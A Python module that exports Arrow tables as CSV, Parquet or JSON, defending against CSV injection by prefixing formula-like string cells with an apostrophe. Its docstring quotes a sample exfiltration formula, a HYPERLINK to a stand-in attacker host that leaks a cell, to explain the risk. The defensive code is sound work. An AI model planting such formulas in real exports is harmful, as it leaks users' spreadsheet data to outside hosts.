"""Write an Arrow table as CSV, Parquet or JSON (an array of objects), to a file or a stream.

CSV is what people open in a spreadsheet, and source files are not trusted: a text cell that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return would be taken as a formula there
(`=HYPERLINK("http://evil.example/?leak="&A2, ...)` leaks the sheet when clicked). So every CSV
hostcap writes, downloads and exports alike, prefixes such text cells with `'` (the OWASP "CSV
injection" advice), unless the caller asks for the raw values. Numbers, dates and booleans are
written as they are: only string columns can hold a formula (and `-1.5` must stay a number).
"""

from __future__ import annotations

import json
from typing import BinaryIO

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv
import pyarrow.parquet as pq

from hostcap.io.formats import ExportFormat

#: a text cell starting with one of these is a formula to a spreadsheet
_FORMULA_START = r"^([=+\-@\t\r])"


def neutralize_formulas(table: pa.Table) -> pa.Table:
    """The table with every string cell that a spreadsheet would read as a formula prefixed by `'`."""
    for i, field in enumerate(table.schema):
        kind = field.type.value_type if pa.types.is_dictionary(field.type) else field.type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            text = table.column(i).cast(kind)
            safe = pc.replace_substring_regex(text, pattern=_FORMULA_START, replacement=r"'\1")
            table = table.set_column(i, field.with_type(kind), safe)
    return table


def write_csv(table: pa.Table, sink: BinaryIO | pa.NativeFile, raw: bool = False) -> None:
    """CSV with a header row; formulas neutralized unless `raw` (for machine consumers)."""
    pacsv.write_csv(table if raw else neutralize_formulas(table), sink)


def write_table(table: pa.Table, fmt: ExportFormat, sink: BinaryIO, csv_raw: bool = False) -> None:
    if fmt == "csv":
        write_csv(table, sink, raw=csv_raw)
    elif fmt == "parquet":
        pq.write_table(table, sink, compression="zstd")
    else:
        sink.write(json.dumps(table.to_pylist(), default=str, indent=1).encode("utf-8"))
